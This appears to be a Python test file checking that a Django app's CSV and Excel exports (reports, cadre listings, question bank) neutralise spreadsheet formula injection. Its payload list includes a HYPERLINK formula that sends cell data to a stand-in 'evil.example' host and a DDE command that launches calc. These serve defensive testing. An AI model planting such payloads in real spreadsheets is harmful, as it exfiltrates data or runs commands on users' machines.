"""Finding 16.5: no export writes a cell a spreadsheet would run as a formula.

Every writer (report CSV/Excel, the cadre listing export, the question-bank Excel export) passes its
cells through core.spreadsheets.safe_cell; the roster import refuses such names (tests/accounts)."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from accounts import factories as af
from accounts import roles
from core.spreadsheets import safe_cell, unsafe_cell
from reports import exports

pytestmark = pytest.mark.django_db

EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+1",
    "-1+1",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("value", EVIL)
def test_safe_cell_neutralises_and_round_trips(value):
    assert safe_cell(value) == "'" + value
    assert unsafe_cell(safe_cell(value)) == value
    assert safe_cell(-3) == -3 and safe_cell("监督") == "监督" and safe_cell(None) is None


def _evil_cadre(name):
    # Written straight to the database (the roster import refuses such names now; old rows may hold them).
    return af.cadre(unit="某省/甲市/东山县/局", user__name=name)


def _table():
    return exports.Table(title="t", headers=["姓名", "数"], rows=iter([[v, -5] for v in EVIL]))


def test_report_writers():
    out = io.BytesIO()
    exports.write_xlsx([_table()], out)
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type == "s" and c.value.startswith("'") for c in cells)
    assert [row[1].value for row in sheet.iter_rows(min_row=2)] == [-5] * len(EVIL)
    text = "".join(exports.csv_lines(_table()))
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert [r[0] for r in rows[1:]] == ["'" + v for v in EVIL]


def test_report_csv_export_through_the_site(client):
    for i, name in enumerate(EVIL[:3]):
        af.cadre(unit="某省/甲市/东山县/局", user__name=name, employee_no=f"EV{i}")
    admin = af.staff(roles.ADMINISTRATOR)
    client.force_login(admin)
    from accounts.models import OrgUnit

    unit = OrgUnit.objects.get(full_path="某省/甲市/东山县/局")
    response = client.get(reverse("reports:export_csv"), {"view": "cadres", "unit": unit.pk, "year": 2026})
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    names = {r[1] for r in list(csv.reader(io.StringIO(content)))[1:]}
    assert names == {"'" + v for v in EVIL[:3]}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_cadre_listing_export(client, fmt):
    _evil_cadre(EVIL[0])
    client.force_login(af.staff(roles.SECURITY_ADMINISTRATOR))
    response = client.get(reverse("cadres:index") + f"?export={fmt}")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if fmt == "csv":
        assert b"\n=" not in body and b",=" not in body
        assert "'=HYPERLINK" in body.decode("utf-8-sig")
    else:
        sheet = load_workbook(io.BytesIO(body)).active
        values = [c.value for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
        assert any(v.startswith("'=HYPERLINK") for v in values)
        assert not any(v.startswith("=") for v in values)


def test_question_bank_export_and_reimport():
    from quizzes import importers, services
    from quizzes.models import Question, QuestionType

    root = services.category_get_or_create_by_path("注入")
    services.question_create(
        category=root,
        qtype=QuestionType.FILL_BLANK,
        stem="<p>=1+1</p>",
        choices=[],
        accepted=["@答案"],
        explanation="",
        default_mark=1,
    )
    data = importers.export_xlsx(root)
    sheet = load_workbook(io.BytesIO(data)).active
    row = [c.value for c in next(sheet.iter_rows(min_row=2))]
    assert row[1] == "'=1+1" and row[8] == "'@答案"
    importers.import_questions(data=data, filename="x.xlsx", category_path="回读")
    again = Question.objects.get(category__full_path="回读")
    assert importers.plain(again.stem) == "=1+1"
    assert [a.text for a in again.accepted_answers.all()] == ["@答案"]
